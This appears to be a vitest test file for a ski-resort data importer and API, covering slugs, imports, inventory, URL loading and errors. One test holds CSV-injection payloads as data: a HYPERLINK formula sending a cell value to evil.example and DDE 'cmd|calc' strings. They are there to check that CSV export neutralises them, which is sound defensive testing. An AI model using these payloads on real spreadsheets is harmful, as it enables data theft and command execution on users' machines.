import { spawn, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import Database from 'better-sqlite3';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { ensureDatabase } from '../src/data/db/build.js';
import { slugify, uniqueSlug } from '../src/importer/slug.js';
import { getJson, startTestServer, privateDatabase, TEST_KEY, testDir } from './helpers/server.js';
import { everyDocumentedPath } from './helpers/paths.js';
import { cliCommand } from './helpers/process.js';
import { until } from './helpers/wait.js';
import { SHARED_DATA_ABSENT, sharedFile } from './helpers/shared-data.js';

const ROOT = path.resolve(import.meta.dirname, '..');
const FIXTURES = path.join(ROOT, 'test', 'fixtures', 'openskimap');
const SHARED = sharedFile('openskistats-ski-areas.json');

const freshDb = (): string => privateDatabase('gateway-import-');

/** `npm run import -- …`, for real, against a database file. */
function importCli(dbPath: string, ...args: string[]) {
  const r = spawnSync(...cliCommand('import', ...args), { cwd: ROOT, env: { ...process.env, DB_PATH: dbPath }, encoding: 'utf8' });
  return { status: r.status, out: r.stdout + r.stderr };
}

/** The same, without blocking this process (which may be serving the URL being imported). */
function importCliAsync(dbPath: string, ...args: string[]): Promise<{ status: number | null; out: string }> {
  return new Promise((resolve) => {
    const child = spawn(...cliCommand('import', ...args), { cwd: ROOT, env: { ...process.env, DB_PATH: dbPath } });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    child.stderr.on('data', (d) => (out += d));
    child.on('close', (status) => resolve({ status, out }));
  });
}

const query = <T>(dbPath: string, sql: string, ...params: unknown[]): T[] => {
  const db = new Database(dbPath, { readonly: true });
  try {
    return db.prepare(sql).all(...params) as T[];
  } finally {
    db.close();
  }
};

describe('slugs', () => {
  it('are lowercase ASCII and collision-safe', () => {
    expect(slugify("Val d'Isère – Tignes")).toBe('val-d-isere-tignes');
    expect(slugify('将军石滑雪场')).toBe('');
    const taken = new Set(['testberg', 'testberg-at']);
    expect(uniqueSlug('Testberg', 'AT', 'Tyrol', 'x', (s) => taken.has(s))).toBe('testberg-at-tyrol');
    expect(uniqueSlug('将军石滑雪场', 'CN', null, 'abc', () => false)).toBe('ski-area');
    const a = uniqueSlug('Testberg', 'AT', 'Tyrol', 'id-1', () => true);
    expect(a).toMatch(/^testberg-[0-9a-z]+$/);
    expect(uniqueSlug('Testberg', 'AT', 'Tyrol', 'id-1', () => true)).toBe(a);
  });
});

describe('npm run import', () => {
  it('imports OpenSkiMap ski areas, keeps curated resorts, skips what it should, and is stable on re-import', () => {
    const dbPath = freshDb();
    const vailBefore = query(dbPath, "SELECT * FROM resorts WHERE id = 'vail'");
    // As if no resort had lived in Vienna's zone before: the import adds its offsets.
    const viennaBefore = query(dbPath, "SELECT * FROM zone_offsets WHERE zone = 'Europe/Vienna'");
    expect(viennaBefore.length).toBeGreaterThan(180);
    const db = new Database(dbPath);
    db.prepare("DELETE FROM zone_offsets WHERE zone = 'Europe/Vienna'").run();
    db.close();
    const r = importCli(dbPath, path.join(FIXTURES, 'ski_areas.geojson'));
    expect(r.status, r.out).toBe(0);
    expect(r.out).toMatch(
      /openskimap: 2 added, 0 updated, 1 matched to curated resorts; skipped 1 not operating, 1 not downhill, 1 without country or position/,
    );
    const added = query<{ id: string; country_code: string; origin: string; lift_count: number; trail_count: number }>(
      dbPath,
      "SELECT id, country_code, origin, lift_count, trail_count FROM resorts WHERE origin = 'imported' ORDER BY id",
    );
    expect(added).toEqual([
      { id: 'testberg-alpin', country_code: 'AT', origin: 'imported', lift_count: 3, trail_count: 7 },
      { id: 'testberg-alpin-ch', country_code: 'CH', origin: 'imported', lift_count: 3, trail_count: 7 },
    ]);
    expect(query(dbPath, "SELECT * FROM resorts WHERE id = 'vail'")).toEqual(vailBefore);
    expect(query(dbPath, "SELECT resort_id FROM resort_sources WHERE source_id = 'osm-vail'")).toEqual([{ resort_id: 'vail' }]);
    expect(query(dbPath, "SELECT count(*) AS n FROM trails WHERE resort_id = 'testberg-alpin'")).toEqual([{ n: 7 }]);

    const again = importCli(dbPath, path.join(FIXTURES, 'ski_areas.geojson'));
    expect(again.out).toMatch(/0 added, 2 updated, 0 matched/);
    expect(query(dbPath, "SELECT count(*) AS n FROM resorts WHERE origin = 'imported'")).toEqual([{ n: 2 }]);

    const all = importCli(dbPath, path.join(FIXTURES, 'ski_areas.geojson'), '--include-non-operating', '--include-non-downhill');
    expect(all.out).toMatch(/2 added, 2 updated/);
    expect(query<{ id: string }>(dbPath, "SELECT id FROM resorts WHERE origin = 'imported' ORDER BY id").map((x) => x.id)).toEqual([
      'altberg',
      'loipenland',
      'testberg-alpin',
      'testberg-alpin-ch',
    ]);
    expect(query(dbPath, "SELECT * FROM zone_offsets WHERE zone = 'Europe/Vienna'")).toEqual(viennaBefore);
    // Every zone a resort lives in has its offsets to 2070 (src/data/db/zone-offsets.ts), the imported ones' too.
    expect(query(dbPath, 'SELECT DISTINCT timezone FROM resorts WHERE timezone NOT IN (SELECT zone FROM zone_offsets WHERE offset_minutes IS NULL)')).toEqual(
      [],
    );
  });

  it('loads runs and lifts as real inventory for the areas they cover, and the server serves it', async () => {
    const dbPath = freshDb();
    expect(importCli(dbPath, path.join(FIXTURES, 'ski_areas.geojson')).status).toBe(0);
    const r = importCli(dbPath, '--runs', path.join(FIXTURES, 'runs.geojson'), '--lifts', path.join(FIXTURES, 'lifts.geojson'));
    expect(r.status, r.out).toBe(0);
    expect(r.out).toMatch(/inventory: 4 trails and 3 lifts for 2 resorts; 1 features matched no imported area/);

    const app = await startTestServer({ dbPath });
    try {
      const trails = (await getJson(app, '/api/resorts/testberg-alpin/trails')).body;
      expect(trails.source).toBe('openskimap');
      expect(trails.trails.map((t: { name: string; difficulty: string; rating: string }) => [t.name, t.difficulty, t.rating])).toEqual([
        ['Hochalm', 'BEGINNER', 'blue'],
        ['Kaiserabfahrt', 'INTERMEDIATE', 'red'],
        ['Unnamed run 3', 'EXPERT', 'black'],
      ]);
      // 0.009 degrees of latitude is about a kilometre.
      expect(trails.trails[0].length).toBeGreaterThan(950);
      expect(trails.trails[0].length).toBeLessThan(1050);
      const lifts = (await getJson(app, '/api/resorts/testberg-alpin/lifts')).body;
      expect(
        lifts.lifts.map((l: { name: string; type: string; seats: number | null; capacityPerHour: number | null }) => [
          l.name,
          l.type,
          l.seats,
          l.capacityPerHour,
        ]),
      ).toEqual([
        ['Gipfelbahn', 'GONDOLA', 10, 2400],
        ['Almlift', 'T_BAR', null, null],
      ]);
      // The curated resort linked to the OpenSkiMap area gets its real runs instead of generated ones.
      const vail = (await getJson(app, '/api/resorts/vail/trails')).body;
      expect(vail.trails.map((t: { name: string }) => t.name)).toEqual(['Riva Ridge']);
      expect(vail.trails[0].rating).toBe('black');
      expect((await getJson(app, '/api/resorts/vail')).body.trails.total).toBe(1);
      expect((await getJson(app, '/api/resorts/testberg-alpin')).body).toMatchObject({
        country: 'AT',
        region: 'Tyrol',
        continent: 'Europe',
        inventorySource: 'openskimap',
      });
    } finally {
      await app.close();
    }

    // A rebuild of the database (another schema version) keeps what was imported.
    const db = new Database(dbPath);
    db.pragma('user_version = 0');
    db.close();
    expect(ensureDatabase(dbPath)).toBe(true);
    expect(query(dbPath, "SELECT count(*) AS n FROM trails WHERE resort_id = 'vail'")).toEqual([{ n: 1 }]);
    expect(query(dbPath, "SELECT inventory_source FROM resorts WHERE id = 'testberg-alpin'")).toEqual([{ inventory_source: 'openskimap' }]);
  });

  it('reads the OpenSkiStats format, from a URL too', async () => {
    const dbPath = freshDb();
    const body = readFileSync(path.join(FIXTURES, 'ski-areas-openskistats.json'));
    const server = createServer((_req, res) => res.end(body));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    try {
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/ski-areas.json`;
      const r = await importCliAsync(dbPath, url);
      expect(r.status, r.out).toBe(0);
      expect(r.out).toMatch(
        /openskistats: 1 added, 0 updated, 1 matched to curated resorts; skipped 0 not operating, 0 not downhill, 1 without country or position/,
      );
      expect(query(dbPath, "SELECT id, lift_count, trail_count FROM resorts WHERE origin = 'imported'")).toEqual([
        { id: 'musterberg', lift_count: 4, trail_count: 9 },
      ]);
      expect(query(dbPath, "SELECT resort_id FROM resort_sources WHERE source_id = 'oss-2'")).toEqual([{ resort_id: 'zermatt' }, { resort_id: 'zermatt' }]);
    } finally {
      server.close();
    }
  });

  it('imported names a spreadsheet would run as formulas come out of CSV neutralised (a leading quote); JSON, NDJSON and numbers unchanged', async () => {
    // What anyone can put into OpenStreetMap, and so into OpenSkiStats' file (OWASP: CSV injection).
    const hostile = [
      { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', region: 'Nordurland' },
      { name: "@SUM(1+1)*cmd|' /C calc'!A0", region: '+cmd' },
      { name: 'Kaldbakur', region: '-cmd|calc' },
      { name: '\tTabbed', region: '\rReturned' },
    ];
    const file = path.join(testDir('gateway-hostile-'), 'ski-areas.json');
    writeFileSync(
      file,
      JSON.stringify({
        ski_areas: hostile.map((h, i) => ({
          ski_area_id: `hostile-${i}`,
          ski_area_name: h.name,
          osm_status: 'operating',
          ski_area_uses: ['downhill'],
          country_code: 'IS',
          region: h.region,
          lift_count: 2,
          run_count: 5,
          latitude: 65.6 + i / 10,
          longitude: -18.1,
          min_elevation: 100,
          max_elevation: 900,
        })),
      }),
    );
    const dbPath = freshDb();
    const r = importCli(dbPath, file);
    expect(r.status, r.out).toBe(0);
    const app = await startTestServer({ dbPath });
    try {
      const url = '/api/resorts?country=IS&limit=200';
      const json = (await getJson(app, url)).body.resorts as { name: string; region: string; location: { lng: number }; conditions: { temperature: number } }[];
      expect(json.map((x) => [x.name, x.region]).sort()).toEqual(hostile.map((h) => [h.name, h.region]).sort());
      const ndjson = await fetch(app.url + url, { headers: { 'x-api-key': TEST_KEY, accept: 'application/x-ndjson' } }).then((res) => res.text());
      const lines = ndjson.trim().split('\n');
      expect(lines.map((line) => JSON.parse(line))).toEqual(json);
      const csv = await getJson(app, url, { headers: { accept: 'text/csv' } });
      expect(csv.contentType).toMatch(/^text\/csv/);
      const rows = parseCsv(csv.body, { columns: true }) as Record<string, string>[];
      const neutralised = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
      expect(rows.map((x) => [x.name, x.region]).sort()).toEqual(hostile.map((h) => [neutralised(h.name), neutralised(h.region)]).sort());
      // Every text cell starts with something a spreadsheet shows as text.
      for (const row of rows) for (const [column, cell] of Object.entries(row)) if (!/^-?\d/.test(cell)) expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
      // Numbers stay numbers: a negative longitude as it is (and the temperature, below zero or not).
      expect(rows.map((x) => x['location.lng'])).toEqual(json.map((x) => String(x.location.lng)));
      expect(rows.every((x) => /^-\d/.test(x['location.lng']!))).toBe(true);
      expect(rows.map((x) => x['conditions.temperature'])).toEqual(json.map((x) => String(x.conditions.temperature)));
    } finally {
      await app.close();
    }
  });

  it('refuses what it cannot read, with a clear message', () => {
    const dbPath = freshDb();
    expect(importCli(dbPath).status).toBe(2);
    const missing = importCli(dbPath, '/nonexistent/areas.json');
    expect(missing.status).toBe(2);
    expect(missing.out).toMatch(/ENOENT/);
    const wrong = importCli(dbPath, path.join(ROOT, 'package.json'));
    expect(wrong.status).toBe(2);
    expect(wrong.out).toMatch(/neither OpenSkiMap GeoJSON nor OpenSkiStats JSON/);
  });
});

describe('the shared OpenSkiStats file at full scale (../shared/data)', () => {
  it('imports all 6,990 areas and every endpoint keeps working', async (ctx) => {
    if (!SHARED) return ctx.skip(SHARED_DATA_ABSENT);
    const dbPath = freshDb();
    const r = importCli(dbPath, SHARED);
    expect(r.status, r.out).toBe(0);
    const imported = query<{ n: number }>(dbPath, "SELECT count(*) AS n FROM resorts WHERE origin = 'imported'")[0]!.n;
    expect(imported).toBeGreaterThan(4000);
    const app = await startTestServer({ dbPath });
    try {
      // As a load balancer would: traffic once /readyz says the weather window of all 7,000
      // resorts is written. (Before, an answer over every resort waits for it, and on a busy
      // machine may pass its deadline: a 503 TIMEOUT to try again, as designed.)
      await until(
        () => getJson(app, '/readyz').then((r) => r.status),
        (s) => s === 200,
        120_000,
        200,
      );
      const list = (await getJson(app, '/api/resorts?limit=200&offset=3000')).body;
      expect(list.total).toBe(241 + imported);
      const someImported = list.resorts[0].id as string;
      for (const { method, path: p } of everyDocumentedPath()) {
        const r2 = await getJson(app, p.replace('/vail', `/${someImported}`), { method });
        expect(r2.status, p).toBe(200);
      }
      const top = await getJson(app, '/api/conditions/top-snow?limit=50');
      expect(top.status, JSON.stringify(top.body)).toBe(200);
      expect(top.body.resorts.length).toBeGreaterThan(0);
      const insights = await getJson(app, '/api/insights/snow?days=60');
      expect(insights.status, JSON.stringify(insights.body)).toBe(200);
      expect(insights.body.network.resorts).toBe(241 + imported);
    } finally {
      await app.close();
    }
  }, 180_000);
});
